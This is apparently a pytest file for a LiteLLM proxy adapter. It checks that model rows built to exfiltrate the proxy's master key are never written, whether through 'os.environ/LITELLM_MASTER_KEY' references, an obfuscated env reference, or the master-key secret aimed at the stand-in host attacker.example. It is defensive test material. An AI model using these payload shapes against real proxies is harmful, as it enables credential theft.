"""Issue 12 items 1 and 2 on the real LiteLLM proxy (and the fake): the rows an attacker who edits only
models.json or a ModelActivation wants LiteLLM to hold are never written.

LiteLLM 1.108.7 resolves any string of a DB model's litellm_params that starts with ``os.environ/`` from
its own environment (``ProxyConfig._resolve_db_litellm_param``); a row with ``model:
os.environ/LITELLM_MASTER_KEY`` and the attacker's ``api_base`` would send the master key there.
"""

from __future__ import annotations

import json

import pytest

from catalog_core.commands import CreateLiteLLMModel, LiteralKey
from catalog_core.events import Outcome
from catalog_core.jsonval import Json
from catalog_core.plan import all_records
from catalog_core.reasons import Reason
from catalog_core.registry import route_id
from catalog_core.values import Source
from tests.adapters.litellm.conftest import Peer
from tests.adapters.litellm.harness import Harness

pytestmark = pytest.mark.anyio

ATTACKER = "https://attacker.example/v1"


def _sent(h: Harness) -> str:
    return json.dumps(
        [[c.model_name, c.litellm_params.value()] for c in h.executed if hasattr(c, "model_name")]
    )


async def test_an_activation_reading_litellms_environment_is_never_written(peer: Peer):
    h = Harness.build(peer)
    exfil = h.add_activation(
        "exfil", model="os.environ/LITELLM_MASTER_KEY", customLlmProvider="openai", apiBase=ATTACKER
    )
    sneaky = h.add_activation("sneaky", model="openai/gpt-4o", apiBase="  OS.ENVIRON/ATTACKER_URL")
    fine = h.add_activation("fine", model="openai/mct-fine", apiBase="https://api.example.com/v1")
    await h.start()
    rows = await h.rows()
    assert set(rows) == {route_id(Source.ACTIVATION, fine)}  # the rest is published
    assert route_id(Source.ACTIVATION, exfil) not in rows and route_id(Source.ACTIVATION, sneaky) not in rows
    assert "environ" not in _sent(h).lower()
    assert not any("environ" in json.dumps(r).lower() for r in rows.values())
    reasons = {r.as_json()["name"]: r.as_json()["reason"] for r in all_records(h.state)}
    assert reasons[exfil] == reasons[sneaky] == "EnvReferenceRejected"


async def test_the_master_key_secret_is_never_sent_even_if_labelled(peer: Peer):
    h = Harness.build(peer)
    h.add_secret("litellm-masterkey-secret", {"LITELLM_MASTER_KEY": peer.master_key})
    ref = {"name": "litellm-masterkey-secret", "key": "LITELLM_MASTER_KEY"}
    steal = h.add_external("steal", model="openai/mct-steal", apiBase=ATTACKER, apiKeySecretRef=ref)
    steal2 = h.add_activation("steal2", model="openai/mct-steal2", apiBase=ATTACKER, apiKeySecretRef=ref)
    await h.start()
    rows = await h.rows()
    assert route_id(Source.EXTERNAL, steal) not in rows
    assert route_id(Source.ACTIVATION, steal2) not in rows
    assert not any(c.api_key is not None for c in h.executed if hasattr(c, "api_key"))
    reasons = {r.as_json()["name"]: r.as_json()["reason"] for r in all_records(h.state)}
    assert reasons[steal] == reasons[steal2] == "SecretNotAllowed"


async def test_the_executor_refuses_such_rows_whatever_produced_them(peer: Peer):
    """Defense in depth behind the core: a command built by hand (a bug, a doctored event log) with an
    os.environ/ value or the master key as its api key is refused before LiteLLM sees it."""
    h = Harness.build(peer)
    name = peer.name("handmade")
    rid = route_id(Source.EXTERNAL, name)
    info = Json.of({"ai_appliance_owner": "model-catalog"})
    env = CreateLiteLLMModel(
        rid, name, Json.of({"model": "os.environ/LITELLM_MASTER_KEY", "api_base": ATTACKER}), info, None
    )
    master = CreateLiteLLMModel(
        rid, name, Json.of({"model": "openai/x", "api_base": ATTACKER}), info, LiteralKey(peer.master_key)
    )
    for command, reason in ((env, Reason.ENV_REFERENCE_REJECTED), (master, Reason.SECRET_NOT_ALLOWED)):
        (done,) = await h.executor.execute(command)
        assert (done.outcome, done.reason) == (Outcome.TERMINAL, reason)
        assert peer.master_key not in done.detail
    assert rid not in await h.rows()
